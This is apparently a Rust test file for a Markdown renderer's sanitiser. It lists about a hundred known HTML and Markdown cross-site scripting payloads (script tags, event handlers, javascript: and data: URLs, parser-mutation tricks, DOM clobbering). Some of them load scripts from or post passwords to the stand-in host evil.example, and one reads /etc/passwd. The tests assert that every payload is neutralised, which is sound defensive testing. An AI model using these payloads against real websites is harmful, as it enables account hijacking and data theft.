//! Known payloads of cross-site scripting. None does harm, whether it comes as a text or gets past the renderer.

use super::{harmless::fault, *};

/// As HTML: what is collected in the cheat sheets of OWASP and PortSwigger, and mutations of the parser's own making.
const HTML: [&str; 62] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\u{c}>alert(1)</script\u{c}>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)//",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\"\\>",
    "<img src=`javascript:alert(1)`>",
    "<img src=javascript:alert(String.fromCharCode(88))>",
    "<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "<img src=\"jav\tascript:alert(1);\">",
    "<img src=\"jav&#x0A;ascript:alert(1);\">",
    "<img src=\" &#14; javascript:alert(1);\">",
    "<img/src=x/onerror=alert(1)>",
    "<img srcset=\"x 1x, javascript:alert(1) 2x\">",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert&#40;1)</script>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml;base64,PHN2Zz4=#x\"/></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<base href=\"https://evil.example/\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<meta charset=utf-7>",
    "<style>@import'https://evil.example/x.css';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<div style=\"background-image:url(javascript:alert(1))\">",
    "<div style=\"width: expression(alert(1));\">",
    "<div style=\"position:fixed;inset:0\">over everything</div>",
    "<td style=\"text-align: left; position: fixed\">",
    "<form action=https://evil.example/><input name=password></form>",
    "<form id=x></form><button form=x formaction=javascript:alert(1)>X</button>",
    "<input onfocus=alert(1) autofocus>",
    "<input type=image src=x onerror=alert(1)>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<select onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=\"javascript:alert(1)\"></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<title><img src=x onerror=alert(1)></title>",
    "<template><script>alert(1)</script></template>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
    "<a id=location href=x>clobbers</a><img name=body>",
    "<a href=\"javascript&colon;alert(1)\" target=_top>x</a>",
    "<p lang=x title=\"\" onmouseover=alert(1) x=\">",
];

/// As Markdown.
const MARKDOWN: [&str; 36] = [
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](&#x6A;avascript:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](javascript&#58;alert(1))",
    "[a](java&Tab;script:alert(1))",
    "[a](java&NewLine;script:alert(1))",
    "[a](<java\tscript:alert(1)>)",
    "[a](<javascript:alert(1)>)",
    "[a](\u{1}javascript:alert(1))",
    "[a](&#1;javascript:alert(1))",
    "[a](%6Aavascript:alert(1))",
    "[a](vbscript:msgbox(1))",
    "[a](livescript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](file:///etc/passwd)",
    "[a](blob:https://evil.example/x)",
    "[a](view-source:javascript:alert(1))",
    "![a](javascript:alert(1))",
    "![a](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![a](\"onerror=\"alert(1))",
    "![a\" onerror=\"alert(1)](x)",
    "[a](x \"onmouseover=alert(1)\")",
    "[a](x '\" onmouseover=\"alert(1)')",
    "[a]\n\n[a]: javascript:alert(1)",
    "[a][b]\n\n[b]: <javascript:alert(1)> \"t\"",
    "<javascript:alert(1)>",
    "<javascript://%0aalert(1)>",
    "[<img src=x onerror=alert(1)>](x)",
    "`<script>alert(1)</script>`",
    "```\"><script>alert(1)</script>\nx\n```",
    "```x\" onclick=\"alert(1)\nx\n```",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "x[^<script>]\n\n[^<script>]: y",
    "x[^\" onclick=\"alert(1)]\n\n[^\" onclick=\"alert(1)]: y",
];

/// Where a payload may stand.
fn placed(payload: &str) -> Vec<String> {
    let quoted: String = payload.lines().map(|line| format!("> {line}\n")).collect();
    let listed: String = payload.lines().map(|line| format!("  {line}\n")).collect();
    vec![
        payload.to_owned(),
        format!("Before {payload} after"),
        format!("*{payload}*"),
        format!("# {payload}"),
        quoted,
        format!("- a\n\n{listed}"),
        format!("|a|\n|-|\n|{payload}|"),
        format!("[{payload}]({payload} \"{payload}\")"),
        format!("![{payload}]({payload} '{payload}')"),
        format!("```{payload}\n{payload}\n```"),
        format!("[^a]: {payload}\n\nx[^a]"),
        format!("<{payload}>"),
        format!("\\{payload}"),
        format!("<div>\n\n{payload}\n\n</div>"),
        format!("{payload}\u{0}{payload}"),
    ]
}

#[test]
fn no_known_payload_does_harm_wherever_it_stands() {
    for payload in HTML.iter().chain(&MARKDOWN) {
        for text in placed(payload) {
            let html = html(&text);
            assert_eq!(fault(&html), None, "{text}\n{html}");
        }
    }
}

#[test]
fn the_sanitiser_alone_leaves_nothing_that_does_harm() {
    for payload in HTML {
        for html in [payload.to_owned(), format!("<p>{payload}</p>"), format!("<table><tr><td>{payload}")] {
            let clean = sanitised::clean(&html);
            assert_eq!(fault(&clean), None, "{html}\n{clean}");
            // What a parser makes of it once more is harmless too, and stays as it is: there is nothing to mutate.
            let again = sanitised::clean(&clean);
            assert_eq!(fault(&again), None, "{html}\n{again}");
            assert_eq!(sanitised::clean(&again), again, "{html}");
        }
    }
}

#[test]
fn the_sanitiser_alone_lets_nothing_name_or_style_the_page() {
    for (html, expected) in [
        ("<div id=\"location\" class=\"admin\">a</div>", "<div>a</div>"),
        ("<div id=\"fn-x\">a</div>", "<div>a</div>"),
        ("<code class=\"language-a b\">a</code>", "<code>a</code>"),
        ("<sup class=\"modal\">a</sup>", "<sup>a</sup>"),
        ("<ol start=\"1e9\"><li>a</li></ol>", "<ol><li>a</li></ol>"),
        ("<p id=\"a\" class=\"b\" style=\"c\" title=\"d\">a</p>", "<p>a</p>"),
    ] {
        assert_eq!(sanitised::clean(html), expected, "{html}");
    }
}
